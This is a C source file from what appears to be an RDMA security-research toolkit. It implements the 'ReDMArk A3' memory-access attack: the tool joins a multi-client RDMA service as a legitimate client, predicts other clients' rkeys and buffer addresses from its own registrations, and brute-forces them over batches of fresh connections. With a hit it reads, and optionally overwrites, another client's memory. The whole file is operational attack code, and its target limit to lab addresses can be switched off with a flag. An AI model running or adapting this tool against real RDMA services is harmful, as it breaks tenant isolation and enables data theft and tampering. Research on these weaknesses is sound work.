/* SPDX-License-Identifier: MIT */
/*
 * mem-access (ReDMArk A3): read and write another client's memory at a
 * multi-client RDMA service by guessing its rkey and address. The attacker
 * connects as an ordinary client twice, learns its own two registrations
 * there, and lets the rxe model (memacc_model.c) predict older ones: index
 * one step back, address one stride back, 256 candidate key bytes. Every
 * wrong guess costs a connection, so guesses go out in batches of fresh
 * connections. The backends (memacc_naive.c, memacc_rsec.c) know how to be a
 * client of each victim.
 */
#include <getopt.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "common/attack.h"
#include "memacc.h"

enum {
	OPT_VICTIM = OPT_FIRST_PRIVATE, OPT_PORT, OPT_SOURCE, OPT_DISTANCE, OPT_VARIANTS, OPT_GRANULE,
	OPT_STRIDE, OPT_STEP, OPT_OFFSET, OPT_READ_LEN, OPT_WRITE, OPT_WRITE_HEX, OPT_WRITE_OFFSET, OPT_BATCH,
	OPT_MAX_TRIES, OPT_MAX_TIME, OPT_CERTS, OPT_IDENTITY, OPT_TIMEOUT, OPT_NO_WALK,
};
enum { MAX_RETRIES = 2, SHOW_MAX = 64, RETRY_QUEUE = 2 * MEMACC_BATCH_MAX, MAX_WALK = 16 };

static volatile sig_atomic_t interrupted;

static void on_sigint(int sig)
{
	(void)sig;
	interrupted = 1;
}

static void help(FILE *f)
{
	fprintf(f, "Usage: %s mem-access --dst IP [options]\n"
		"ReDMArk A3: as an ordinary client of a multi-client RDMA service, guess another\n"
		"client's rkey and address from the rxe model and read (and write) its memory.\n\n"
		"  --victim naive|rdmasec  what the service is (default naive: rdmasec-naive-victim)\n"
		"  --dst IP                the service; loopback or 10.77.0.0/24\n"
		"  --port N                its TCP port (default 18516 naive, 7471 rdmasec)\n"
		"  --source IP             our address for the control connection (on the fabric:\n"
		"                          our host's, so it crosses the wire)\n"
		"  -d, --device DEV        naive: our RDMA device (default: the first)\n"
		"  -g, --gid-index N       naive: our GID index (default 1)\n"
		"  --distance N            try the N registrations made before ours (1..64, default 1)\n"
		"  --addr-variants N       addresses per registration: predicted, then +-granules\n"
		"                          (odd, 1..9, default 3)\n"
		"  --granule N             address step of the variants (default 4096)\n"
		"  --stride N              address step between registrations, may be negative\n"
		"                          (default: measured from our two connections)\n"
		"  --index-step N          rkey index step, may be negative (default: measured)\n"
		"  --offset N              added to every guessed address (default 0)\n"
		"  --no-walk               after a hit, do not step back granule by granule to the\n"
		"                          region's start (a hit may land inside the region)\n"
		"  --read-len N            bytes each guess reads, 1..%u (default 64)\n"
		"  --write TEXT            after a hit, write TEXT there (and read it back)\n"
		"  --write-hex HEX         the same, bytes given in hex\n"
		"  --write-offset N        where in the found region to write (default 0)\n"
		"  --batch N               guesses in flight, one connection each (1..%u, default 8;\n"
		"                          rdmasec: 1)\n"
		"  --max-tries N           stop after N guesses (default: every candidate)\n"
		"  --max-time S            stop after S seconds (default 120)\n"
		"  --timeout-ms N          per connection and per completion (default 3000;\n"
		"                          rdmasec 30000)\n"
		"  --certs DIR             rdmasec: ca.pem and the client's NAME.pem/NAME.key\n"
		"  --identity NAME         rdmasec: which client credential (default client2)\n"
		"  --allow-any-target      allow a --dst outside loopback and 10.77.0.0/24\n"
		"  --json                  print one JSON result line on stdout\n"
		"  -h, --help\n\n"
		"Exit status: 0 another registration was read, 1 none was (or an error), 2 bad usage.\n",
		PROG, MEMACC_READ_MAX, MEMACC_BATCH_MAX);
}

struct opts {
	const struct memacc_backend *be;
	struct memacc_cfg cfg;
	uint32_t dst_ip;
	bool have_dst, have_port, have_timeout, have_stride, have_step, allow_any, json;
	int64_t stride;
	int32_t step;
	uint32_t distance, variants, batch;
	uint64_t granule, offset, write_offset, max_tries, max_time;
	uint8_t wbuf[MEMACC_READ_MAX];
	size_t wlen;
	bool have_write, no_walk;
	char dst_s[16];
};

struct result {
	struct memacc_own own[2];
	struct memacc_model m;
	uint64_t tries, misses, noanswer, hits;
	unsigned walked;          /* granules stepped back from the first hit */
	bool found;
	struct memacc_try hit;
	double hit_s, sweep_s, total_s;
	char evidence[96];
	const char *stop;
	bool wrote, write_refused;
	char write_status[96];
	uint8_t back[MEMACC_READ_MAX];
};

/* A signed number: optional '-', then what parse_u64 takes. */
static bool parse_i64(const char *s, int64_t max, int64_t *out, const char *what)
{
	uint64_t v;
	bool neg = s && s[0] == '-';
	if (!parse_u64(neg ? s + 1 : s, (uint64_t)max, &v, what))
		return false;
	*out = neg ? -(int64_t)v : (int64_t)v;
	return true;
}

/* parse_* say why they failed; a zero that parsed needs its own message. */
static bool nonzero(uint64_t v, const char *what)
{
	if (v == 0)
		fprintf(stderr, "%s mem-access: %s must be at least 1\n", PROG, what);
	return v != 0;
}

/* What to guess, read and write, and for how long; false if bad (or not one of these). */
static bool parse_sweep_opt(struct opts *o, int opt, const char *arg)
{
	int64_t sv;

	switch (opt) {
	case OPT_DISTANCE:
		return parse_u32(arg, MEMACC_MAX_DISTANCE, &o->distance, "--distance") &&
		       nonzero(o->distance, "--distance");
	case OPT_VARIANTS: return parse_u32(arg, MEMACC_MAX_ADDR_VARIANTS, &o->variants, "--addr-variants");
	case OPT_GRANULE: return parse_u64(arg, 1ull << 40, &o->granule, "--granule");
	case OPT_STRIDE:
		o->have_stride = true;
		return parse_i64(arg, INT64_MAX, &o->stride, "--stride");
	case OPT_STEP:
		o->have_step = true;
		if (!parse_i64(arg, MEMACC_MR_INDEX_MAX, &sv, "--index-step"))
			return false;
		o->step = (int32_t)sv;
		return true;
	case OPT_OFFSET: return parse_u64(arg, UINT64_MAX, &o->offset, "--offset");
	case OPT_READ_LEN:
		return parse_u32(arg, MEMACC_READ_MAX, &o->cfg.read_len, "--read-len") &&
		       nonzero(o->cfg.read_len, "--read-len");
	case OPT_WRITE:
		if (!arg[0] || strlen(arg) > MEMACC_READ_MAX)
			return fprintf(stderr, "%s mem-access: --write takes 1..%u bytes\n", PROG, MEMACC_READ_MAX),
			       false;
		o->wlen = strlen(arg);
		memcpy(o->wbuf, arg, o->wlen);
		o->have_write = true;
		return true;
	case OPT_WRITE_HEX:
		o->have_write = true;
		return parse_hex(arg, o->wbuf, sizeof(o->wbuf), &o->wlen, "--write-hex") &&
		       nonzero(o->wlen, "--write-hex");
	case OPT_WRITE_OFFSET: return parse_u64(arg, UINT32_MAX, &o->write_offset, "--write-offset");
	case OPT_BATCH: return parse_u32(arg, MEMACC_BATCH_MAX, &o->batch, "--batch") && nonzero(o->batch, "--batch");
	case OPT_MAX_TRIES:
		return parse_u64(arg, UINT64_MAX, &o->max_tries, "--max-tries") && nonzero(o->max_tries, "--max-tries");
	case OPT_MAX_TIME:
		return parse_u64(arg, 86400, &o->max_time, "--max-time") && nonzero(o->max_time, "--max-time");
	case OPT_NO_WALK: o->no_walk = true; return true;
	default: return false;
	}
}

/* The victim, how to reach it and the output; the guessing options go to parse_sweep_opt. False if bad. */
static bool parse_opt(struct opts *o, int opt, const char *arg)
{
	uint64_t v;

	switch (opt) {
	case OPT_VICTIM:
		if (!strcmp(arg, "naive"))
			o->be = &memacc_naive_backend;
		else if (!strcmp(arg, "rdmasec"))
			o->be = &memacc_rdmasec_backend;
		else
			return fprintf(stderr, "%s mem-access: --victim must be naive or rdmasec, not `%s'\n", PROG,
				       arg), false;
		return true;
	case OPT_DST:
		o->have_dst = true;
		return parse_ipv4(arg, &o->dst_ip, "--dst");
	case OPT_PORT:
		o->have_port = true;
		if (!(parse_u64(arg, 65535, &v, "--port") && nonzero(v, "--port")))
			return false;
		o->cfg.port = (uint16_t)v;
		return true;
	case OPT_SOURCE: {
		uint32_t ip;
		o->cfg.source = arg;
		return parse_ipv4(arg, &ip, "--source");
	}
	case 'd': o->cfg.device = arg; return true;
	case 'g':
		if (!parse_u64(arg, 255, &v, "--gid-index"))
			return false;
		o->cfg.gid_index = (int)v;
		return true;
	case OPT_TIMEOUT:
		o->have_timeout = true;
		if (!(parse_u64(arg, 600000, &v, "--timeout-ms") && nonzero(v, "--timeout-ms")))
			return false;
		o->cfg.timeout_ms = (int)v;
		return true;
	case OPT_CERTS: o->cfg.certs = arg; return true;
	case OPT_IDENTITY:
		if (!arg[0] || strchr(arg, '/'))
			return fprintf(stderr, "%s mem-access: bad --identity `%s'\n", PROG, arg), false;
		o->cfg.identity = arg;
		return true;
	case OPT_ALLOW_ANY: o->allow_any = true; return true;
	case OPT_JSON: o->json = true; return true;
	default: return parse_sweep_opt(o, opt, arg);
	}
}

/* What depends on the victim: its port, a patient enough timeout, the batch it allows. */
static void apply_defaults(struct opts *o)
{
	bool rsec = o->be == &memacc_rdmasec_backend;

	if (!o->have_port)
		o->cfg.port = rsec ? 7471 : 18516;
	if (!o->have_timeout)
		o->cfg.timeout_ms = rsec ? 30000 : 3000;
	if (o->batch > o->be->batch_max)
		o->batch = (uint32_t)o->be->batch_max;
	o->cfg.dst = ipv4_str(o->dst_ip, o->dst_s);
}

static const struct option mem_access_long_opts[] = {
	{ "victim", required_argument, NULL, OPT_VICTIM },
	{ "dst", required_argument, NULL, OPT_DST },
	{ "port", required_argument, NULL, OPT_PORT },
	{ "source", required_argument, NULL, OPT_SOURCE },
	{ "device", required_argument, NULL, 'd' },
	{ "gid-index", required_argument, NULL, 'g' },
	{ "distance", required_argument, NULL, OPT_DISTANCE },
	{ "addr-variants", required_argument, NULL, OPT_VARIANTS },
	{ "granule", required_argument, NULL, OPT_GRANULE },
	{ "stride", required_argument, NULL, OPT_STRIDE },
	{ "index-step", required_argument, NULL, OPT_STEP },
	{ "offset", required_argument, NULL, OPT_OFFSET },
	{ "read-len", required_argument, NULL, OPT_READ_LEN },
	{ "write", required_argument, NULL, OPT_WRITE },
	{ "write-hex", required_argument, NULL, OPT_WRITE_HEX },
	{ "write-offset", required_argument, NULL, OPT_WRITE_OFFSET },
	{ "batch", required_argument, NULL, OPT_BATCH },
	{ "max-tries", required_argument, NULL, OPT_MAX_TRIES },
	{ "max-time", required_argument, NULL, OPT_MAX_TIME },
	{ "timeout-ms", required_argument, NULL, OPT_TIMEOUT },
	{ "no-walk", no_argument, NULL, OPT_NO_WALK },
	{ "certs", required_argument, NULL, OPT_CERTS },
	{ "identity", required_argument, NULL, OPT_IDENTITY },
	{ "allow-any-target", no_argument, NULL, OPT_ALLOW_ANY },
	{ "json", no_argument, NULL, OPT_JSON },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

static bool parse_args(struct opts *o, int argc, char *argv[], int *status)
{
	bool bad = false;
	int opt;

	*status = 2;
	while ((opt = getopt_long(argc, argv, "d:g:h", mem_access_long_opts, NULL)) != -1) {
		if (opt == 'h') {
			help(stdout);
			*status = 0;
			return false;
		}
		if (opt == '?' || opt == ':') {
			help(stderr);
			return false;
		}
		bad |= !parse_opt(o, opt, optarg);
	}
	if (bad)
		return false;
	if (optind != argc) {
		fprintf(stderr, "%s mem-access: unexpected argument `%s'\n", PROG, argv[optind]);
		return false;
	}
	if (!o->have_dst) {
		fprintf(stderr, "%s mem-access: missing --dst (see --help)\n", PROG);
		return false;
	}
	if (o->variants % 2 == 0) {
		fprintf(stderr, "%s mem-access: --addr-variants must be odd\n", PROG);
		return false;
	}
	if (o->have_write && o->wlen > MEMACC_READ_MAX) {
		fprintf(stderr, "%s mem-access: the --write data is too long\n", PROG);
		return false;
	}
	if (!target_allowed(o->dst_ip, o->allow_any))
		return false;
	apply_defaults(o);
	return true;
}

/* Which candidates are still worth a try: none of a distance that already had a hit. */
static bool next_candidate(const struct memacc_model *m, uint64_t *k, const bool *done, struct memacc_candidate *c)
{
	while (memacc_candidate(m, *k, c)) {
		(*k)++;
		if (!done[c->distance])
			return true;
	}
	return false;
}

static void print_bytes(const char *what, const uint8_t *p, size_t n)
{
	size_t show = n < SHOW_MAX ? n : SHOW_MAX;
	fprintf(stdout, "%s (%zu bytes): ", what, n);
	for (size_t i = 0; i < show; i++)
		putchar(p[i] >= 0x20 && p[i] < 0x7f ? p[i] : '.');
	printf("%s\n", show < n ? "..." : "");
}

/* Where the sweep is: the model's next candidate, guesses to try again, distances found. */
struct sweep_state {
	struct memacc_candidate retry[RETRY_QUEUE];
	unsigned retry_count[RETRY_QUEUE];
	size_t nretry;
	bool done[MEMACC_MAX_DISTANCE + 1];
	uint64_t k;
	double start;
};

/* The next batch: guesses that got no answer first, then the model's next candidates. */
static size_t fill_batch(const struct opts *o, const struct result *r, struct sweep_state *s,
			 struct memacc_try *batch, unsigned *tries_of)
{
	size_t n = 0;

	while (n < o->batch && r->tries + n < o->max_tries) {
		if (s->nretry) {
			s->nretry--;
			if (s->done[s->retry[s->nretry].distance])
				continue;
			batch[n].c = s->retry[s->nretry];
			tries_of[n++] = s->retry_count[s->nretry];
		} else if (next_candidate(&r->m, &s->k, s->done, &batch[n].c)) {
			tries_of[n++] = 0;
		} else {
			break;
		}
	}
	return n;
}

/* Counts one answered guess: a miss, no answer (queued again, up to MAX_RETRIES), or a hit. */
static void record(const struct opts *o, struct result *r, struct sweep_state *s, const struct memacc_try *t,
		   unsigned tries)
{
	r->tries++;
	if (t->v == MEMACC_MISS) {
		r->misses++;
		if (!r->evidence[0])
			snprintf(r->evidence, sizeof(r->evidence), "%s", t->status);
	} else if (t->v == MEMACC_NOANSWER) {
		r->noanswer++;
		if (tries < MAX_RETRIES && s->nretry < RETRY_QUEUE) {
			s->retry[s->nretry] = t->c;
			s->retry_count[s->nretry++] = tries + 1;
		}
	} else if (!s->done[t->c.distance]) {
		r->hits++;
		s->done[t->c.distance] = true;
		if (!r->found) {
			r->found = true;
			r->hit = *t;
			r->hit_s = now_s() - s->start;
		}
		if (!o->json) {
			printf("hit: rkey 0x%08x addr 0x%llx (distance %u) after %llu tries, %.2f s\n",
			       t->c.rkey, (unsigned long long)t->c.addr, t->c.distance,
			       (unsigned long long)r->tries, now_s() - s->start);
			print_bytes("read", t->data, o->cfg.read_len);
		}
	}
}

/* The sweep itself: batches of fresh connections until a stop condition. */
static int sweep(const struct opts *o, void *st, struct result *r, double t0)
{
	static struct memacc_try batch[MEMACC_BATCH_MAX];
	static struct sweep_state s;
	struct progress prog;

	s = (struct sweep_state){ .start = now_s() };
	r->stop = "done";
	progress_start(&prog, "rkey sweep", r->m.count);
	for (;;) {
		unsigned tries_of[MEMACC_BATCH_MAX];
		size_t n;
		if (interrupted) {
			r->stop = "interrupted";
			break;
		}
		if (now_s() - t0 >= (double)o->max_time) {
			r->stop = "time-limit";
			break;
		}
		if ((n = fill_batch(o, r, &s, batch, tries_of)) == 0) {
			r->stop = r->tries >= o->max_tries ? "max-tries" : "done";
			break;
		}
		if (o->be->guess(st, batch, n))
			return -1;
		for (size_t i = 0; i < n; i++)
			record(o, r, &s, &batch[i], tries_of[i]);
		progress_update(&prog, s.k);
	}
	progress_end(&prog);
	r->sweep_s = now_s() - s.start;
	return 0;
}

/*
 * Any address inside a registration passes rxe's check, so a stride that was
 * off by a granule can hit the middle of the region. With the key known,
 * step back one granule at a time until the victim refuses: the last address
 * that worked is the region's start (buffers are granule-aligned).
 */
static int walk_back(const struct opts *o, void *st, struct result *r)
{
	static struct memacc_try t;

	for (unsigned i = 0; i < MAX_WALK && !interrupted && o->granule; i++) {
		t.c = r->hit.c;
		t.c.addr = r->hit.c.addr - o->granule;
		if (o->be->guess(st, &t, 1))
			return -1;
		r->tries++;
		if (t.v != MEMACC_HIT)
			break;
		r->hit.c = t.c;
		memcpy(r->hit.data, t.data, o->cfg.read_len);
		r->walked++;
	}
	return 0;
}

static void json_bytes(struct json *j, const char *hexkey, const char *textkey, const uint8_t *p, size_t n)
{
	char hex[2 * SHOW_MAX + 1], text[SHOW_MAX + 1];
	size_t show = n < SHOW_MAX ? n : SHOW_MAX;
	for (size_t i = 0; i < show; i++) {
		snprintf(hex + 2 * i, 3, "%02x", p[i]);
		text[i] = p[i] >= 0x20 && p[i] < 0x7f ? (char)p[i] : '.';
	}
	hex[2 * show] = '\0';
	text[show] = '\0';
	json_str(j, hexkey, hex);
	json_str(j, textkey, text);
}

static void report_json(const struct opts *o, const struct result *r)
{
	struct json j;
	char s[32];
	double rate = r->sweep_s > 0 ? (double)r->tries / r->sweep_s : 0;

	json_begin(&j, "mem-access");
	json_str(&j, "victim", o->be->name);
	json_str(&j, "dst", o->cfg.dst);
	json_u64(&j, "port", o->cfg.port);
	json_hex(&j, "own_rkey", r->own[0].rkey);
	json_hex(&j, "own_addr", r->own[0].addr);
	json_hex(&j, "own_rkey2", r->own[1].rkey);
	json_hex(&j, "own_addr2", r->own[1].addr);
	snprintf(s, sizeof(s), "%+d", r->m.index_step);
	json_str(&j, "index_step", s);
	snprintf(s, sizeof(s), "%s0x%llx", r->m.stride < 0 ? "-" : "+",
		 (unsigned long long)(r->m.stride < 0 ? -(uint64_t)r->m.stride : (uint64_t)r->m.stride));
	json_str(&j, "stride", s);
	json_u64(&j, "distance", r->m.distance);
	json_u64(&j, "candidates", r->m.count);
	json_u64(&j, "tries", r->tries);
	json_u64(&j, "misses", r->misses);
	json_u64(&j, "no_answer", r->noanswer);
	json_u64(&j, "hits", r->hits);
	json_u64(&j, "walked", r->walked);
	json_boolean(&j, "found", r->found);
	/* The found rkey and address, "" when none was found. */
	snprintf(s, sizeof(s), "0x%x", r->hit.c.rkey);
	json_str(&j, "rkey", r->found ? s : "");
	snprintf(s, sizeof(s), "0x%llx", (unsigned long long)r->hit.c.addr);
	json_str(&j, "addr", r->found ? s : "");
	json_u64(&j, "read_len", r->found ? o->cfg.read_len : 0);
	json_bytes(&j, "read_hex", "read_text", r->hit.data, r->found ? o->cfg.read_len : 0);
	json_boolean(&j, "wrote", r->wrote);
	json_u64(&j, "write_len", r->wrote ? o->wlen : 0);
	json_str(&j, "write_status", r->write_status);
	json_num(&j, "hit_s", r->found ? r->hit_s : -1);
	json_num(&j, "sweep_s", r->sweep_s);
	json_num(&j, "seconds", r->total_s);
	json_num(&j, "rate", rate);
	json_str(&j, "evidence", r->evidence);
	json_str(&j, "stop", r->stop ? r->stop : "error");
	json_boolean(&j, "ok", r->found);
	json_end(&j);
}

static void report_text(const struct opts *o, const struct result *r)
{
	double rate = r->sweep_s > 0 ? (double)r->tries / r->sweep_s : 0;
	printf("%llu guesses in %.2f s (%.1f/s): %llu refused, %llu unanswered, %llu hit; stop: %s\n",
	       (unsigned long long)r->tries, r->sweep_s, rate, (unsigned long long)r->misses,
	       (unsigned long long)r->noanswer, (unsigned long long)r->hits, r->stop ? r->stop : "error");
	if (r->evidence[0])
		printf("a refused guess: %s\n", r->evidence);
	if (o->have_write && r->found)
		printf("write: %s (%s)\n", r->wrote ? "done, read back intact" : "failed", r->write_status);
	if (!r->found)
		printf("no foreign registration was reached\n");
}

static int attack(struct opts *o, void *st, struct result *r)
{
	double t0 = now_s();
	const char *why;

	if (o->be->calibrate(st, r->own))
		return -1;
	r->m = (struct memacc_model){ .own_rkey = r->own[0].rkey, .own_addr = r->own[0].addr,
				      .distance = o->distance, .addr_variants = o->variants,
				      .granule = o->granule, .offset = o->offset };
	if (!memacc_calibrate(r->own[0].rkey, r->own[0].addr, r->own[1].rkey, r->own[1].addr, &r->m.index_step,
			      &r->m.stride, &why) &&
	    !(o->have_step && o->have_stride)) {
		fprintf(stderr, "%s mem-access: our registrations do not fit the model: %s\n", PROG, why);
		return -1;
	}
	if (o->have_step)
		r->m.index_step = o->step;
	if (o->have_stride)
		r->m.stride = o->stride;
	if (!memacc_model_init(&r->m, &why)) {
		fprintf(stderr, "%s mem-access: %s\n", PROG, why);
		return -1;
	}
	if (!o->json) {
		printf("own registrations: rkey 0x%08x addr 0x%llx, then rkey 0x%08x addr 0x%llx\n",
		       r->own[0].rkey, (unsigned long long)r->own[0].addr, r->own[1].rkey,
		       (unsigned long long)r->own[1].addr);
		printf("model: index step %+d, stride %+lld; %llu candidates (distance 1..%u)\n", r->m.index_step,
		       (long long)r->m.stride, (unsigned long long)r->m.count, r->m.distance);
	}
	if (sweep(o, st, r, t0))
		return -1;
	if (r->found && !o->no_walk) {
		if (walk_back(o, st, r))
			return -1;
		if (!o->json && r->walked) {
			printf("region start: 0x%llx (%u granules below the hit)\n",
			       (unsigned long long)r->hit.c.addr, r->walked);
			print_bytes("read", r->hit.data, o->cfg.read_len);
		}
	}
	if (r->found && o->have_write) {
		uint64_t at = r->hit.c.addr + o->write_offset;
		int w = o->be->write(st, r->hit.c.rkey, at, o->wbuf, o->wlen, r->back, r->write_status);
		r->wrote = w == 0 && memcmp(r->back, o->wbuf, o->wlen) == 0;
	}
	r->total_s = now_s() - t0;
	return 0;
}

int mem_access_main(int argc, char *argv[])
{
	static struct opts o;
	static struct result r;
	struct sigaction sa = { .sa_handler = on_sigint };
	void *st = NULL;
	int status;

	memset(&o, 0, sizeof(o));
	memset(&r, 0, sizeof(r));
	o.be = &memacc_naive_backend;
	o.cfg = (struct memacc_cfg){ .gid_index = 1, .read_len = 64, .identity = "client2" };
	o.distance = 1, o.variants = 3, o.granule = 4096, o.batch = 8, o.max_tries = UINT64_MAX, o.max_time = 120;
	if (!parse_args(&o, argc, argv, &status))
		return status;
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGINT, &sa, NULL) || signal(SIGPIPE, SIG_IGN) == SIG_ERR)
		return 1;
	int rc = o.be->open(&o.cfg, &st);
	if (rc == 0) {
		rc = attack(&o, st, &r);
		o.be->close(st);
	}
	if (rc)
		r.stop = "error";
	if (o.json)
		report_json(&o, &r);
	else
		report_text(&o, &r);
	return r.found ? 0 : 1;
}
